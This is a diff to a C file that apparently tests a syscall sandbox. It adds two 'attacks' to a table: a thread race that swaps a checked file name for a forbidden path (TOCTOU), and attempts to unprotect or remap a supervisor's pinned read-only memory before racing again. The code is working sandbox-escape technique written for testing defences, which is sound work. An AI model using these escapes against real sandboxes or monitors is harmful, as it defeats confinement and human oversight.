@@ -1258,6 +1258,116 @@ static void atk_supervisor(void)
     effects(own_syscall);
 }
 
+/* ---- racing the checked name (TOCTOU) ----
+ * A name is a string in the program's memory: a wrapper that reads it,
+ * judges it and lets the program's call go on with the program's pointer
+ * is beaten by a thread that rewrites the string between the check and
+ * the kernel's read.  One thread flips a buffer between an always-allowed
+ * name (/dev/null) and DIR/ATTACK while another opens it for writing, for
+ * a second; one open of the forbidden file is a write. */
+
+static long now_ms(void);
+static char race_buf[4096];
+static volatile int race_stop;
+
+static void *race_flipper(void *arg)
+{
+    const char *bad = arg;
+    size_t n = strlen(bad) + 1;
+
+    while (!race_stop) {
+        memcpy(race_buf, "/dev/null", 10);
+        memcpy(race_buf, bad, n);
+    }
+    return NULL;
+}
+
+/* Opens of race_buf for a second: 1 if one was the forbidden file. */
+static int race_open(long *tries)
+{
+    char bad[4096], link[64], got[4096];
+    pthread_t t;
+    int won = 0;
+
+    snprintf(bad, sizeof(bad), "%s/%s", dir, attack);
+    snprintf(race_buf, sizeof(race_buf), "/dev/null");
+    race_stop = 0;
+    if (pthread_create(&t, NULL, race_flipper, bad))
+        return 0;
+    for (long end = now_ms() + 1000; !won && now_ms() < end; ++*tries) {
+        long fd = own_syscall(SYS_openat, AT_FDCWD, (long)race_buf, O_WRONLY | O_CREAT, 0644, 0, 0);
+        if (fd < 0)
+            continue;
+        snprintf(link, sizeof(link), "/proc/self/fd/%ld", fd);
+        ssize_t k = readlink(link, got, sizeof(got) - 1);
+        got[k > 0 ? k : 0] = 0;
+        if (!strcmp(got, bad)) {
+            own_syscall(SYS_write, fd, (long)attack, (long)strlen(attack), 0, 0, 0);
+            won = 1;
+        }
+        own_syscall(SYS_close, fd, 0, 0, 0, 0, 0);
+    }
+    race_stop = 1;
+    pthread_join(t, NULL);
+    return won;
+}
+
+static void atk_race_path(void)
+{
+    long tries = 0;
+
+    if (race_open(&tries))
+        say("W");
+    found("race: %ld opens", tries);
+    try_socket(own_syscall);
+}
+
+/* The read-only anonymous mappings (a supervisor's pinned argument area
+ * is one): made writable, unmapped, moved, mapped over, discarded — each
+ * outcome said — then the race again. */
+static void atk_pin_area(void)
+{
+    static struct map m[MAX_MAPS];
+    int n = read_maps(m, MAX_MAPS), areas = 0, unlocked = 0;
+    long tries = 0;
+    char out[512] = "";
+
+    for (int i = 0; i < n; i++) {
+        if (strcmp(m[i].perms, "r--p") || m[i].path[0] || m[i].off)
+            continue;
+        void *lo = (void *)m[i].lo;
+        size_t len = 4096;
+        areas++;
+        int p = mprotect(lo, len, PROT_READ | PROT_WRITE) ? errno : 0;
+        if (!p) {
+            memset(lo, 0, len);               /* it was writable: the area is the program's */
+            unlocked++;
+        }
+        int u = madvise(lo, len, MADV_DONTNEED) ? errno : 0;
+        void *f = mmap(lo, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+        int x = f == MAP_FAILED ? errno : 0;
+        unlocked += !x;
+        int r = mremap(lo, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)(m[i].lo - (1UL << 32))) ==
+                MAP_FAILED ? errno : 0;
+        int d = munmap(lo, len) ? errno : 0;
+        unlocked += !d;
+        long uf = syscall(SYS_userfaultfd, 0);
+        if (uf >= 0)
+            close((int)uf);
+        if (strlen(out) < 300)
+            snprintf(out + strlen(out), sizeof(out) - strlen(out),
+                     "%s%lx: mprotect %s, madvise %s, mmap-fixed %s, mremap %s, munmap %s, userfaultfd %s",
+                     out[0] ? "; " : "", (unsigned long)m[i].lo, p ? strerrorname_np(p) : "ok",
+                     u ? strerrorname_np(u) : "ok", x ? strerrorname_np(x) : "ok",
+                     r ? strerrorname_np(r) : "ok", d ? strerrorname_np(d) : "ok",
+                     uf >= 0 ? "ok" : strerrorname_np(errno));
+    }
+    found("read-only anonymous mappings %d, unlocked %d%s%s", areas, unlocked, out[0] ? ": " : "", out);
+    if (race_open(&tries))
+        say("W");
+    try_socket(own_syscall);
+}
+
 /* ---- the table ---- */
 
 struct attack {
@@ -1290,6 +1400,8 @@ static const struct attack attacks[] = {
     {"sigreturn-mask", atk_sigreturn_mask},
     {"sigreturn-gate", atk_sigreturn_gate},
     {"supervisor", atk_supervisor},
+    {"race-path", atk_race_path},
+    {"pin-area", atk_pin_area},
 };
 #define NATTACKS (int)(sizeof(attacks) / sizeof(attacks[0]))
 
